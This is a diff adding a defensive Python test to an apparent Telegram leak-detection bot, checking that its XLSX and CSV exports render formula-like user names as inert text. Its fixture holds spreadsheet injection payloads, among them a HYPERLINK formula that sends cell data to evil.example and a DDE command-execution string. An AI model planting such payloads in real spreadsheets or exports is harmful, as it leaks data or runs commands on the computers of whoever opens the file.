@@ -451,3 +451,56 @@ async def test_ethics_commands_posted_in_an_ordinary_work_group_are_refused_and_
     assert listed.text.startswith("事件列表（第 1/3 頁，共 25 件）")
     private = await rig.dm(rig.staff, f"/incident {incident_id}")
     assert private.text.startswith(f"事件 #{incident_id}")
+
+
+FORMULA_NAMES = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"點我")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+)
+
+
+async def test_export_keeps_formula_like_display_names_as_inert_text_in_xlsx_and_csv(
+    rig: Rig,
+) -> None:
+    """A Telegram display name or chat title is chosen by its owner: in the monthly export it
+    must stay text, never become a spreadsheet formula that runs when the office opens it."""
+    group = rig.sim.create_chat("=1+1 外勤組")
+    senders = [rig.sim.add_user(name, started_bot=True) for name in FORMULA_NAMES]
+    ids = []
+    for user in senders:
+        before = len(rig.sim.sent_messages(rig.ethics_chat))
+        rig.sim.inject_message(group, user, LEAK)
+        await rig.sim.wait_for(
+            lambda b=before: len(rig.sim.sent_messages(rig.ethics_chat)) > b, timeout=WAIT
+        )
+        alert = rig.sim.sent_messages(rig.ethics_chat)[before]
+        ids.append(int(alert.callback_data[0].rsplit(":", 1)[1]))
+    month = str(rig.store.get_incident(ids[0])["sent_at"])[:7]  # type: ignore[index]
+    staff_dm = rig.sim.private_chat(rig.staff)
+    before = len(rig.sim.uploaded_files(staff_dm))
+    rig.sim.inject_command(staff_dm, rig.staff, "/export", month)
+    await rig.sim.wait_for(
+        lambda: len(rig.sim.uploaded_files(staff_dm)) >= before + 2, timeout=WAIT
+    )
+    files = {f.file_name: f.data for f in rig.sim.uploaded_files(staff_dm)[before:]}
+
+    sheet = openpyxl.load_workbook(io.BytesIO(files[f"dlpbot-{month}.xlsx"])).active
+    header = [c.value for c in sheet[1]]
+    name_col, chat_col = header.index("傳送者") + 1, header.index("群組（單位）") + 1
+    cells = [sheet.cell(row=r, column=name_col) for r in range(2, sheet.max_row + 1)]
+    assert [c.value for c in cells] == [f"'{name}" for name in FORMULA_NAMES]
+    assert all(c.data_type == "s" for c in cells)  # a string cell, not a formula ("f")
+    assert sheet.cell(row=2, column=chat_col).value == "'=1+1 外勤組"
+    every = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in every if c.data_type == "f"]
+    assert isinstance(sheet.cell(row=2, column=1).value, int)  # ids stay numbers
+
+    rows = list(csv.DictReader(io.StringIO(files[f"dlpbot-{month}.csv"].decode("utf-8-sig"))))
+    assert [r["傳送者"] for r in rows] == [f"'{name}" for name in FORMULA_NAMES]
+    assert {r["群組（單位）"] for r in rows} == {"'=1+1 外勤組"}
+    for r in rows:
+        for value in r.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or value.lstrip("-").isdigit(), value
